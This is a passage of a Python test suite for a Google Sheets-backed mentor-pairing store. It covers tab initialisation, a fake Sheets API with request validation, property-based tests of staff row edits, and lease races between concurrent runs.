        for rule in fake.tab(PAIRINGS).conditional_formats
    }
    assert coloured == {s.value for s in Status}
    protected = fake.tab(PAIRINGS).protected_ranges
    # Every Pairings column but the three staff edit and the three Slack ones (which staff
    # settle by hand); Replaces and Closing email included.
    assert len(protected) == len(COLUMNS[PAIRINGS]) - 3 - len(SLACK_COLUMNS) == 17
    assert all(p["warningOnly"] for p in protected)
    assert "Status" not in " ".join(p["description"] for p in protected)
    assert [p["range"] for p in fake.tab(RUNS).protected_ranges] == [
        {"sheetId": fake.tab(RUNS).sheet_id}
    ]

    writes_before = fake.writes
    assert store.init_tabs() == []
    assert fake.writes == writes_before  # nothing to do: not one write request


def test_init_completes_existing_tabs_without_touching_their_data() -> None:
    fake = FakeSheets()
    fake.add_tab(MENTORS, [["Name", "Email", "Skills", "Capacity", "Active", "Staff"], ["Ada"]])
    fake.add_tab(RUNS, [list(COLUMNS[RUNS][:9]), ["2026-10-01", "x"]], column_count=9)
    fake.add_tab(PAIRINGS, [list(COLUMNS[PAIRINGS]), pairing("P-1")], frozen_rows=1)
    store = make_google_store(fake, make_config())
    done = store.init_tabs()
    assert fake.tab_values(MENTORS) == [
        [
            "Name",
            "Email",
            "Skills",
            "Capacity",
            "Active",
            "Staff",
            "Calendly link",
            "Slack",
            *["Notes", "Paused until"],
        ],
        ["Ada"],
    ]
    assert fake.tab_values(RUNS) == [list(COLUMNS[RUNS]), ["2026-10-01", "x"]]
    assert fake.tab_values(PAIRINGS)[1] == pairing("P-1")[:10]
    assert any("'Digest'" in line for line in done)
    assert not any("froze the header row of 'Pairings'" in line for line in done)
    assert store.init_tabs() == []


# --- the fake itself ---------------------------------------------------------------------


def post(fake: FakeSheets, path: str, body: Mapping[str, Any]) -> requests.Response:
    url = f"https://sheets.googleapis.com/v4/spreadsheets/{fake.spreadsheet_id}{path}"
    return fake.session().post(url, json=body, timeout=5)


def test_the_fake_rejects_an_unknown_field_like_google(fake: FakeSheets) -> None:
    sheet_id = fake.tab(PAIRINGS).sheet_id
    body = {"requests": [{"updateCells": {"start": {"sheetId": sheet_id}, "colour": "red"}}]}
    response = post(fake, ":batchUpdate", body)
    assert response.status_code == 400
    assert 'Unknown name "colour"' in response.json()["error"]["message"]
    assert response.json()["error"]["status"] == "INVALID_ARGUMENT"


@pytest.mark.parametrize(
    ("requests_", "message"),
    [
        ([{}], "No request set"),
        (
            [{"appendDimension": {"sheetId": 1, "length": 1}, "deleteDimension": {}}],
            "More than one kind",
        ),
        ([{"appendDimension": {"sheetId": 1, "dimension": "ROW", "length": 1}}], "(enum)"),
        ([{"appendDimension": {"sheetId": "one", "length": 1}}], "TYPE_INT32"),
        ([{"appendDimension": {"sheetId": 2**31, "length": 1}}], "out of range"),
        ([{"appendCells": {"sheetId": 1, "rows": {"values": []}}}], "expected a list"),
    ],
)
def test_the_fake_rejects_malformed_batch_updates(
    fake: FakeSheets, requests_: list[Any], message: str
) -> None:
    before = fake.tab_values(PAIRINGS)
    response = post(fake, ":batchUpdate", {"requests": requests_})
    assert response.status_code == 400
    assert message in response.json()["error"]["message"]
    assert fake.tab_values(PAIRINGS) == before


def test_a_batch_update_is_all_or_nothing(fake: FakeSheets) -> None:
    sheet_id = fake.tab(PAIRINGS).sheet_id
    body = {
        "requests": [
            {"appendDimension": {"sheetId": sheet_id, "dimension": "ROWS", "length": 5}},
            {
                "deleteDimension": {
                    "range": {"sheetId": 999, "dimension": "ROWS", "startIndex": 0, "endIndex": 1}
                }
            },
        ]
    }
    rows_before = fake.tab(PAIRINGS).row_count
    assert post(fake, ":batchUpdate", body).status_code == 400
    assert fake.tab(PAIRINGS).row_count == rows_before


def test_the_validator_follows_the_discovery_document() -> None:
    validator = DiscoveryValidator()
    validator.validate(
        {
            "valueInputOption": "RAW",
            "data": [{"dataFilter": {"a1Range": "A1"}, "values": [[None, "x", 1]]}],
        },
        "BatchUpdateValuesByDataFilterRequest",
    )
    with pytest.raises(ApiError, match="enum"):
        validator.validate({"valueInputOption": "RAWISH"}, "BatchUpdateValuesByDataFilterRequest")
    with pytest.raises(ApiError, match="Unknown name"):
        validator.validate({"data": [{"filter": {}}]}, "BatchUpdateValuesByDataFilterRequest")
    with pytest.raises(ApiError, match="Cannot bind query parameter"):
        validator.check_query("sheets.spreadsheets.get", {"includeGridDatas": ["true"]})
    with pytest.raises(ApiError, match="bool"):
        validator.check_query("sheets.spreadsheets.get", {"includeGridData": ["yes"]})
    validator.check_query("sheets.spreadsheets.get", {"ranges": ["A1", "B2"], "fields": ["sheets"]})


def test_the_fake_refuses_other_hosts(fake: FakeSheets) -> None:
    with pytest.raises(AssertionError, match="no real network"):
        fake.session().get("https://www.googleapis.com/drive/v3/files", timeout=5)


def test_the_fake_insists_on_timeouts(fake: FakeSheets) -> None:
    url = f"https://sheets.googleapis.com/v4/spreadsheets/{fake.spreadsheet_id}"
    with pytest.raises(AssertionError, match="without a timeout"):
        fake.session().get(url, timeout=None)


def test_sorted_rows_keep_their_metadata(fake: FakeSheets) -> None:
    fake.set_metadata("tag", "P-0001", row=(PAIRINGS, 2))
    fake.sort_rows(PAIRINGS, "Pairing ID", descending=True)
    [tag] = fake.metadata("tag")
    assert tag["location"]["dimensionRange"]["startIndex"] == 4  # P-0001 is now row 5
    fake.delete_row(PAIRINGS, 5)
    assert fake.metadata("tag") == []


def test_the_fake_values_api_tells_raw_from_user_entered(fake: FakeSheets) -> None:
    for option, cell in (("RAW", "A3"), ("USER_ENTERED", "B3")):
        body = {
            "valueInputOption": option,
            "data": [{"range": f"Runs!{cell}", "values": [["=1+1"]]}],
        }
        assert post(fake, "/values:batchUpdate", body).status_code == 200
    assert fake.cell(RUNS, 3, 1) == {"stringValue": "=1+1"}
    assert fake.cell(RUNS, 3, 2) == {"formulaValue": "=1+1"}
    base = f"https://sheets.googleapis.com/v4/spreadsheets/{fake.spreadsheet_id}/values"
    one = fake.session().get(f"{base}/Runs!A3:B3", timeout=5).json()
    assert one["values"] == [["=1+1", "#ERROR!"]]
    many = fake.session().get(
        f"{base}:batchGet", params={"ranges": ["Runs!A1", "Mentors!B2"]}, timeout=5
    )
    assert [r["values"] for r in many.json()["valueRanges"]] == [
        [["Started"]],
        [["ada@example.org"]],
    ]


# --- staff editing, whatever they do ---------------------------------------------------

_STAFF_EDITS = st.lists(
    st.one_of(
        st.tuples(st.just("insert"), st.integers(0, 20)),
        st.tuples(st.just("delete"), st.integers(0, 20)),
        st.tuples(st.just("sort"), st.sampled_from(["Pairing ID", "Mentee", "Status"])),
        st.tuples(st.just("sort descending"), st.sampled_from(["Pairing ID", "Mentee"])),
    ),
    max_size=4,
)


def _edit_like_staff(fake: FakeSheets, edits: list[tuple[str, Any]], names: Iterator[str]) -> None:
    for kind, argument in edits:
        rows = len(fake.records(PAIRINGS))
        if kind == "insert":
            fake.insert_row(PAIRINGS, 2 + argument % (rows + 1), pairing(next(names), "Proposed"))
        elif kind == "delete" and rows:
            fake.delete_row(PAIRINGS, 2 + argument % rows)
        elif kind.startswith("sort"):
            fake.sort_rows(PAIRINGS, argument, descending=kind.endswith("descending"))


@settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(before=_STAFF_EDITS, between=_STAFF_EDITS)
def test_every_write_lands_on_its_row_whatever_staff_do(
    before: list[tuple[str, Any]], between: list[tuple[str, Any]]
) -> None:
    fake = FakeSheets()
    seed(fake, pairings=6)
    names = (f"P-S{n:03d}" for n in range(100))
    targets = ["P-0001", "P-0003", "P-0005"]
    with make_google_store(fake, make_config()).session("run") as session:
        session.read()
        _edit_like_staff(fake, before, names)
        first = session.write(
            [{"Pairing ID": "P-0100", "Status": "Sending intro", "Mentee": "Mentee 0100"}],
            [
                PairingUpdate(p, {"Status": "Sending intro"}, expect_status="Approved")
                for p in targets
            ],
        )
        _edit_like_staff(fake, between, names)
        second = session.write(
            [],
            [
                PairingUpdate(p, {"Status": "Awaiting contact"}, expect_status="Sending intro")
                for p in first.applied
            ],
        )
        session.finish([], {})
    rows = {row["Pairing ID"]: row for row in fake.records(PAIRINGS)}
    assert len(rows) == len(fake.records(PAIRINGS))  # no Pairing ID doubled
    for pairing_id, row in rows.items():
        # Every row still holds its own cells: nothing was written across rows.
        assert row["Mentee"] == f"Mentee {pairing_id.rsplit('-', 1)[1]}"
        if pairing_id in second.applied:
            assert row["Status"] == "Awaiting contact"
        elif pairing_id.startswith("P-S"):
            assert row["Status"] == "Proposed"
        elif pairing_id not in first.applied:
            assert row["Status"] == "Approved"
    for skipped in (*first.skipped, *second.skipped):
        assert skipped.pairing_id not in rows  # only deleted rows are skipped here
    assert set(first.applied) | {s.pairing_id for s in first.skipped} == {*targets, "P-0100"}


def test_init_dry_run_says_what_it_would_do_and_writes_nothing() -> None:
    fake = FakeSheets()
    fake.add_tab("Sheet1", [])
    store = make_google_store(fake, make_config())
    planned = store.init_tabs(dry_run=True)
    assert any("created tab 'Pairings'" in line for line in planned)
    assert fake.writes == 0
    assert fake.titles == ["Sheet1"]
    assert store.init_tabs() == planned


# --- leases that run out, and lease races (found in review) --------------------------


def _two_approved(fake: FakeSheets) -> None:
    def row(pid: str, who: str) -> dict[str, str]:
        return {
            "Pairing ID": pid,
            "Status": "Approved",
            "Mentee": who.title(),
            "Mentee email": f"{who}@example.net",
            "Mentor": "Ada",
            "Mentor email": "ada@example.org",
            "Reminders sent": "0",
        }

    for tab, records in (
        (MENTORS, []),
        (MENTEES, []),
        (PAIRINGS, [row("P-A", "sam"), row("P-B", "mo")]),
        (PROBLEMS, []),
        (RUNS, []),
    ):
        fake.add_tab(
            tab, [list(COLUMNS[tab])] + [[r.get(c, "") for c in COLUMNS[tab]] for r in records]
        )


def test_a_run_whose_lease_ran_out_leaves_the_next_runs_tags_alone() -> None:
    fake = FakeSheets()
    _two_approved(fake)
    config = make_config()
    store_a = make_google_store(fake, config)
    store_b = make_google_store(fake, config)
    run_a = store_a.session("run A")
    a = run_a.__enter__()
    a.read()
    a.write([], [PairingUpdate("P-A", {"Status": "Sending intro"}, "Approved")])
    fake.clock.advance(minutes=config.lease_minutes + 1)  # A is slow; its lease runs out
    with store_b.session("run B") as b:
        b.read()
        b.write([], [PairingUpdate("P-B", {"Status": "Sending intro"}, "Approved")])
        with pytest.raises(RunInProgressError) as refused:
            a.write([], [PairingUpdate("P-A", {"Status": "Awaiting contact"}, "Sending intro")])
        # A leaves, failing, while B is still at work.
        run_a.__exit__(type(refused.value), refused.value, None)
        outcome = b.write(
            [], [PairingUpdate("P-B", {"Status": "Awaiting contact"}, "Sending intro")]
        )
        assert outcome.skipped == ()
        b.finish([], {})
    status = {r["Pairing ID"]: r["Status"] for r in fake.records(PAIRINGS)}
    assert status["P-B"] == "Awaiting contact"


def test_losing_a_lease_race_to_a_run_that_then_finishes_takes_the_lease() -> None:
    fake = FakeSheets()
    _two_approved(fake)
    config = make_config()
    winner_store = make_google_store(fake, config)
    loser_store = make_google_store(fake, config)
    state: dict[str, Any] = {}

    def winner_takes(_fake: FakeSheets) -> None:
        state["cm"] = winner_store.session("winner")
        state["session"] = state["cm"].__enter__()

    def winner_finishes(_fake: FakeSheets) -> None:
        state["session"].read()
        state["session"].finish([], {})
        state["cm"].__exit__(None, None, None)

    # The winner creates its lease right after the loser looked, and finishes
    # right after the loser's creation was refused.
    fake.once_after(lambda r: r.method == "GET", winner_takes)
    fake.once_after(lambda r: r.endpoint == "batchUpdate" and r.status == 400, winner_finishes)
    with loser_store.session("loser") as loser:
        loser.read()
        loser.finish([], {"Command": "run"})
    assert [r["Command"] for r in fake.records(RUNS)] == ["run"]  # the loser ran after all
